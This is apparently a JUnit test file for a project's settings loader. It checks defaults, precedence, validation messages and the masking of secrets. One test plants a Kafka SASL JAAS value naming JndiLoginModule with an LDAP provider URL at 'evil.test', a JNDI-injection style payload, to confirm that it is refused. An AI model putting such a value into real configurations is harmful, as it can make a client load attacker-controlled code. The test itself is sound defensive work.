package dev.millrace.bootstrap.configuration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.InstanceOfAssertFactories.list;
import static org.assertj.core.api.InstanceOfAssertFactories.type;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.Period;
import java.util.Arrays;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SettingsTest {

  @TempDir Path folder;

  @Test
  void everyDefaultFitsItsType() {
    Settings settings = Settings.of(Map.of());

    assertThat(Setting.values())
        .allSatisfy(setting -> assertThat(settings.text(setting)).isEqualTo(setting.standard()))
        .allSatisfy(setting -> assertThat(setting.problemWith(setting.standard())).isEmpty());
  }

  @Test
  void everySettingCanBeSetInTheEnvironmentAndInTheFile() throws IOException {
    Map<Setting, String> others = new HashMap<>();
    for (Setting setting : Setting.values()) {
      others.put(setting, other(setting));
    }
    Map<String, String> environment = new HashMap<>();
    others.forEach((setting, value) -> environment.put(setting.variable(), value));
    Path file = folder.resolve("millrace.properties");
    Files.writeString(
        file,
        String.join(
            "\n",
            others.entrySet().stream().map(e -> e.getKey().key() + "=" + e.getValue()).toList()));

    for (Settings settings :
        new Settings[] {
          Settings.of(environment), Settings.of(Map.of(Settings.FILE_VARIABLE, file.toString()))
        }) {
      assertThat(Setting.values())
          .allSatisfy(setting -> assertThat(settings.text(setting)).isEqualTo(others.get(setting)));
    }
  }

  private static String other(Setting setting) {
    return Arrays.stream(new String[] {"7", "true", "PT7S", "7d", "http://elsewhere:1", "json"})
        .filter(value -> setting.problemWith(value).isEmpty())
        .filter(value -> !value.equals(setting.standard()))
        .findFirst()
        .orElseThrow();
  }

  @Test
  void aPortMayBeNone() {
    String variable = Setting.STREAM_METRICS_PORT.variable();

    assertThat(Settings.of(Map.of(variable, "none")).port(Setting.STREAM_METRICS_PORT)).isEmpty();
    assertThat(Settings.of(Map.of(variable, "65535")).port(Setting.STREAM_METRICS_PORT))
        .hasValue(65_535);
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "65536", "-1", "", "off"})
  void whatIsNoPortIsRefused(String value) {
    assertThat(Setting.STREAM_METRICS_PORT.problemWith(value).orElseThrow())
        .contains("is not a port such as 9023, or none");
  }

  @Test
  void theEnvironmentWinsOverTheFile() throws IOException {
    Path file = Files.writeString(folder.resolve("some.properties"), "millrace.relay.batch = 10\n");

    Settings settings =
        Settings.of(Map.of(Settings.FILE_VARIABLE, file.toString(), "MILLRACE_RELAY_BATCH", "20"));

    assertThat(settings.number(Setting.RELAY_BATCH)).isEqualTo(20);
  }

  @Test
  void allErrorsAreReportedAtOnceWithTheNearestName() throws IOException {
    Path file =
        Files.writeString(
            folder.resolve("some.properties"),
            "millrace.relay.bach = 10\nmillrace.relay.idle = soon\n");

    assertThatThrownBy(
            () ->
                Settings.of(
                    Map.of(
                        Settings.FILE_VARIABLE,
                        file.toString(),
                        "MILLRACE_KAFKA_PARTITIONS",
                        "many",
                        "MILLRACE_POSTGRES_PASSWRD",
                        "secret")))
        .asInstanceOf(type(InvalidSettings.class))
        .extracting(InvalidSettings::problems, list(String.class))
        .hasSize(4)
        .anySatisfy(problem -> assertThat(problem).contains("did you mean millrace.relay.batch?"))
        .anySatisfy(problem -> assertThat(problem).contains("'soon' is not a duration"))
        .anySatisfy(problem -> assertThat(problem).contains("'many' is not a whole"))
        .anySatisfy(
            problem ->
                assertThat(problem)
                    .contains("did you mean MILLRACE_POSTGRES_PASSWORD?")
                    .doesNotContain("secret"));
  }

  @Test
  void daysMayNeverEndButNotBeNone() {
    String variable = Setting.RAW_RETENTION.variable();
    LocalDate today = LocalDate.of(2026, 11, 21);

    assertThat(Settings.of(Map.of(variable, "30d")).days(Setting.RAW_RETENTION))
        .isEqualTo(Period.ofDays(30));
    assertThat(today.minus(Settings.of(Map.of(variable, "forever")).days(Setting.RAW_RETENTION)))
        .isBefore(LocalDate.of(-4712, 1, 1));
    for (String none : new String[] {"0d", "0", "", "P90D", "12h"}) {
      assertThatThrownBy(() -> Settings.of(Map.of(variable, none)))
          .isInstanceOf(InvalidSettings.class)
          .hasMessageContaining("is not days from 1 on, such as 90d, or forever");
    }
  }

  @Test
  void nothingIsCountedInZeros() {
    assertThatThrownBy(() -> Settings.of(Map.of("MILLRACE_POSTGRES_POOL_SIZE", "0")))
        .isInstanceOf(InvalidSettings.class)
        .hasMessageContaining("'0' is not a whole number from 1 on");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "MILLRACE_POSTGRES_URL=jdbc:postgresql://h/db?user=u&password=canary",
        "MILLRACE_REGISTRY_URL=http://user:canary@registry:8081"
      })
  void aPasswordInAnAddressIsRefusedAndNotRepeated(String variable) {
    String[] parts = variable.split("=", 2);

    assertThatThrownBy(() -> Settings.of(Map.of(parts[0], parts[1])))
        .isInstanceOf(InvalidSettings.class)
        .hasMessageContaining("there is a password in it")
        .hasMessageNotContaining("canary");
  }

  /** A client's own properties may name a login module, which may run what a directory says. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "sasl.jaas.config",
        "millrace.kafka.sasl.jaas.config",
        "millrace.kafka.properties.sasl.jaas.config",
        "millrace.kafka.jmx-url"
      })
  void propertiesOfKafkasClientsAreNoSettings(String key) throws IOException {
    Path file =
        Files.writeString(
            folder.resolve("millrace.properties"),
            key
                + " = com.sun.security.auth.module.JndiLoginModule required"
                + " user.provider.url=\"ldap://evil.test/\";\n");

    assertThatThrownBy(() -> Settings.of(Map.of(Settings.FILE_VARIABLE, file.toString())))
        .isInstanceOf(InvalidSettings.class)
        .hasMessageContaining(key)
        .hasMessageNotContaining("JndiLoginModule");
  }

  @Test
  void aMissingFileIsAnError() {
    assertThatThrownBy(
            () -> Settings.of(Map.of(Settings.FILE_VARIABLE, folder.resolve("none").toString())))
        .isInstanceOf(InvalidSettings.class)
        .hasMessageContaining("cannot read");
  }

  @Test
  void whatIsNamedLikeASecretIsMaskedAndNeverRepeated() {
    Map<String, String> environment = new HashMap<>();
    for (Setting setting : Setting.values()) {
      if (setting.key().matches(".*(password|token|secret|users|credential).*")) {
        environment.put(setting.variable(), "canary-" + setting.key());
      }
    }
    Settings settings = Settings.of(environment);

    assertThat(environment).hasSizeGreaterThanOrEqualTo(5);
    assertThat(settings.table()).doesNotContain("canary");
    assertThat(settings).asString().doesNotContain("canary");
    assertThat(Arrays.stream(Setting.values()).filter(Setting::isSecret))
        .allSatisfy(setting -> assertThat(settings.text(setting)).startsWith("canary"));
  }

  @Test
  void theTableMasksSecrets() {
    Settings settings = Settings.of(Map.of("MILLRACE_POSTGRES_PASSWORD", "canary"));

    assertThat(settings.table())
        .contains("millrace.postgres.url")
        .contains("********")
        .doesNotContain("canary");
    assertThat(settings).asString().doesNotContain("canary");
    assertThat(settings.text(Setting.POSTGRES_PASSWORD)).isEqualTo("canary");
  }
}
